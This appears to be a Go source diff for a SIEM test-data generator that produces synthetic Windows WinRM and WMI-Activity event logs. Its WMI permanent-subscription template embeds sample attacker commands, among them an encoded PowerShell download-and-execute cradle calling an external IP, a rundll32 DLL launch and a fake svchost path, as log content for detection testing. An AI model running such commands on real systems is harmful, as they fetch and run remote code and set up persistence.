@@ -0,0 +1,286 @@
+package generators
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/google/uuid"
+
+	"siem-event-generator/models"
+)
+
+// WindowsWinRMGenerator generates WinRM and WMI-Activity Operational log events
+type WindowsWinRMGenerator struct {
+	BaseGenerator
+}
+
+func init() {
+	Register(&WindowsWinRMGenerator{})
+}
+
+var (
+	winRMProvider = WindowsEventProvider{
+		Name: "Microsoft-Windows-WinRM",
+		Guid: "{A7975C8F-AC13-49F1-87DA-5A984A4AB417}",
+	}
+	wmiProvider = WindowsEventProvider{
+		Name: "Microsoft-Windows-WMI-Activity",
+		Guid: "{1418EF04-B0B4-4623-BF7E-D74AB47BBDAA}",
+	}
+)
+
+// GetEventType returns the event type for Windows WinRM/WMI Activity
+func (g *WindowsWinRMGenerator) GetEventType() models.EventType {
+	return models.EventType{
+		ID:          "windows_winrm",
+		Name:        "Windows WinRM/WMI Activity",
+		Category:    "windows",
+		Description: "WinRM remote shell sessions and WMI-Activity provider and event subscription events",
+		EventIDs:    []string{"6", "91", "169", "5857", "5860", "5861"},
+	}
+}
+
+// GetTemplates returns available templates for WinRM/WMI events
+func (g *WindowsWinRMGenerator) GetTemplates() []models.EventTemplate {
+	return []models.EventTemplate{
+		{
+			ID:          "6",
+			Name:        "WSMan Session Created",
+			Category:    "windows_winrm",
+			EventID:     "6",
+			Format:      "xml",
+			Description: "Client created a WSMan session to a remote host",
+		},
+		{
+			ID:          "91",
+			Name:        "Remote Shell Created",
+			Category:    "windows_winrm",
+			EventID:     "91",
+			Format:      "xml",
+			Description: "Server created a remote PowerShell shell for a WinRM client",
+		},
+		{
+			ID:          "169",
+			Name:        "WinRM User Authenticated",
+			Category:    "windows_winrm",
+			EventID:     "169",
+			Format:      "xml",
+			Description: "User authenticated to the WinRM service",
+		},
+		{
+			ID:          "5857",
+			Name:        "WMI Provider Started",
+			Category:    "windows_winrm",
+			EventID:     "5857",
+			Format:      "xml",
+			Description: "WMI provider loaded into a host process",
+		},
+		{
+			ID:          "5860",
+			Name:        "WMI Temporary Event Subscription",
+			Category:    "windows_winrm",
+			EventID:     "5860",
+			Format:      "xml",
+			Description: "Temporary WMI event consumer registered",
+		},
+		{
+			ID:          "5861",
+			Name:        "WMI Permanent Event Subscription",
+			Category:    "windows_winrm",
+			EventID:     "5861",
+			Format:      "xml",
+			Description: "Permanent WMI event filter to consumer binding (persistence)",
+		},
+	}
+}
+
+// Generate creates a WinRM/WMI event
+func (g *WindowsWinRMGenerator) Generate(templateID string, overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	switch templateID {
+	case "6":
+		return g.generate6(overrides)
+	case "91":
+		return g.generate91(overrides)
+	case "169":
+		return g.generate169(overrides)
+	case "5857":
+		return g.generate5857(overrides)
+	case "5860":
+		return g.generate5860(overrides)
+	case "5861":
+		return g.generate5861(overrides)
+	default:
+		return nil, fmt.Errorf("unknown template ID: %s", templateID)
+	}
+}
+
+// generate6 creates a WSMan session creation event on the client
+func (g *WindowsWinRMGenerator) generate6(overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+
+	fields := map[string]interface{}{
+		"connection": fmt.Sprintf("%s/wsman?PSVersion=5.1.19041.3570", g.RandomFQDN()),
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	return g.buildGenerated(winRMProvider, "Microsoft-Windows-WinRM/Operational", 6, 4, 3, 1, now, fields)
+}
+
+// generate91 creates a remote shell creation event on the server
+func (g *WindowsWinRMGenerator) generate91(overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+
+	fields := map[string]interface{}{
+		"resourceUri": g.WeightedChoice([]string{
+			"http://schemas.microsoft.com/powershell/Microsoft.PowerShell",
+			"http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd",
+		}, []float64{85, 15}),
+		"shellId":  strings.ToUpper(g.RandomGUID()),
+		"user":     fmt.Sprintf("%s\\%s", g.RandomDomain(), g.RandomUsername()),
+		"clientIP": g.RandomIPv4Internal(),
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	return g.buildGenerated(winRMProvider, "Microsoft-Windows-WinRM/Operational", 91, 4, 9, 0, now, fields)
+}
+
+// generate169 creates a WinRM user authentication event
+func (g *WindowsWinRMGenerator) generate169(overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+
+	fields := map[string]interface{}{
+		"username":                fmt.Sprintf("%s\\%s", g.RandomDomain(), g.RandomUsername()),
+		"authenticationMechanism": g.WeightedChoice([]string{"Kerberos", "Negotiate", "NTLM", "Basic"}, []float64{60, 25, 12, 3}),
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	return g.buildGenerated(winRMProvider, "Microsoft-Windows-WinRM/Operational", 169, 4, 11, 0, now, fields)
+}
+
+// generate5857 creates a WMI provider start event
+func (g *WindowsWinRMGenerator) generate5857(overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+	providers := [][2]string{
+		{"CIMWin32", "%systemroot%\\system32\\wbem\\cimwin32.dll"},
+		{"WmiPerfClass", "%systemroot%\\system32\\wbem\\WmiPerfClass.dll"},
+		{"MSVDS__PROVIDER", "%SystemRoot%\\System32\\wbem\\vdswmi.dll"},
+		{"Win32_ProcessProvider", "%systemroot%\\system32\\wbem\\cimwin32.dll"},
+		{"SCM Event Provider", "%systemroot%\\system32\\wbem\\scmevtprov.dll"},
+	}
+	provider := providers[g.RandomInt(0, len(providers)-1)]
+
+	fields := map[string]interface{}{
+		"ProviderName": provider[0],
+		"Code":         "0x0",
+		"HostProcess":  "wmiprvse.exe",
+		"ProcessID":    g.RandomInt(1000, 65535),
+		"ProviderPath": provider[1],
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	return g.buildGenerated(wmiProvider, "Microsoft-Windows-WMI-Activity/Operational", 5857, 0, 0, 0, now, fields)
+}
+
+// generate5860 creates a temporary event consumer registration event
+func (g *WindowsWinRMGenerator) generate5860(overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+	queries := []string{
+		"SELECT * FROM Win32_ProcessStartTrace",
+		"SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'",
+		"SELECT * FROM Win32_VolumeChangeEvent",
+		"SELECT * FROM __InstanceModificationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_Service'",
+	}
+
+	fields := map[string]interface{}{
+		"NamespaceName": "//./root/CIMV2",
+		"Query":         g.RandomChoice(queries),
+		"User":          fmt.Sprintf("%s\\%s", g.RandomDomain(), g.RandomUsername()),
+		"processid":     g.RandomInt(1000, 65535),
+		"MachineName":   g.RandomHostname(),
+		"PossibleCause": "Temporary",
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	return g.buildGenerated(wmiProvider, "Microsoft-Windows-WMI-Activity/Operational", 5860, 0, 0, 0, now, fields)
+}
+
+// generate5861 creates a permanent event subscription event: an event filter
+// bound to a consumer that runs a command, a common persistence technique
+func (g *WindowsWinRMGenerator) generate5861(overrides map[string]interface{}) (*models.GeneratedEvent, error) {
+	now := time.Now().UTC()
+	name := g.RandomChoice([]string{"Updater", "SCM Event Log Consumer", "WindowsUpdateCheck", "BVTConsumer", "DSMConsumer"})
+	command := g.RandomChoice([]string{
+		"powershell.exe -NoP -W Hidden -Enc " + encodePowerShell(fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')", g.RandomIPv4External())),
+		"C:\\ProgramData\\svchost.exe",
+		"cmd.exe /c rundll32.exe C:\\Users\\Public\\update.dll,Start",
+	})
+	query := "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
+
+	fields := map[string]interface{}{
+		"Namespace": "//./root/subscription",
+		"ESS":       name,
+		"CONSUMER":  fmt.Sprintf("CommandLineEventConsumer=\"%s\"", name),
+		"PossibleCause": fmt.Sprintf("Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"%s\";\n\tQuery = \"%s\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"%s\";\n\tName = \"%s\";\n};\n",
+			name, query, strings.ReplaceAll(command, "\\", "\\\\"), name),
+	}
+
+	fields = g.ApplyOverrides(fields, overrides)
+
+	return g.buildGenerated(wmiProvider, "Microsoft-Windows-WMI-Activity/Operational", 5861, 0, 0, 0, now, fields)
+}
+
+// buildGenerated renders the event XML and wraps it as a generated event
+func (g *WindowsWinRMGenerator) buildGenerated(provider WindowsEventProvider, channel string, eventID, level, task, opcode int, timestamp time.Time, fields map[string]interface{}) (*models.GeneratedEvent, error) {
+	event := g.buildEvent(provider, channel, eventID, level, task, opcode, timestamp, fields)
+	rawEvent, err := marshalRawXML(event)
+	if err != nil {
+		return nil, err
+	}
+
+	return &models.GeneratedEvent{
+		ID:         uuid.New().String(),
+		Type:       "windows_winrm",
+		EventID:    fmt.Sprintf("%d", eventID),
+		Timestamp:  timestamp,
+		RawEvent:   string(rawEvent),
+		Fields:     fields,
+		Sourcetype: "XmlWinEventLog:" + channel,
+	}, nil
+}
+
+// buildEvent creates the common Windows Event structure for a channel
+func (g *WindowsWinRMGenerator) buildEvent(provider WindowsEventProvider, channel string, eventID, level, task, opcode int, timestamp time.Time, fields map[string]interface{}) WindowsEvent {
+	dataItems := make([]WindowsDataItem, 0)
+	for name, value := range fields {
+		dataItems = append(dataItems, WindowsDataItem{
+			Name:  name,
+			Value: fmt.Sprintf("%v", value),
+		})
+	}
+
+	return WindowsEvent{
+		Xmlns: "http://schemas.microsoft.com/win/2004/08/events/event",
+		System: WindowsEventSystem{
+			Provider:      provider,
+			EventID:       eventID,
+			Version:       0,
+			Level:         level,
+			Task:          task,
+			Opcode:        opcode,
+			Keywords:      "0x4000000000000002",
+			TimeCreated:   WindowsTimeCreated{SystemTime: timestamp.Format("2006-01-02T15:04:05.000000000Z")},
+			EventRecordID: int64(g.RandomInt(100000, 99999999)),
+			Execution:     WindowsExecution{ProcessID: g.RandomInt(1000, 65535), ThreadID: g.RandomInt(100, 10000)},
+			Channel:       channel,
+			Computer:      g.RandomFQDN(),
+			Security:      WindowsSecurity{UserID: g.RandomSID()},
+		},
+		EventData: WindowsEventData{Data: dataItems},
+	}
+}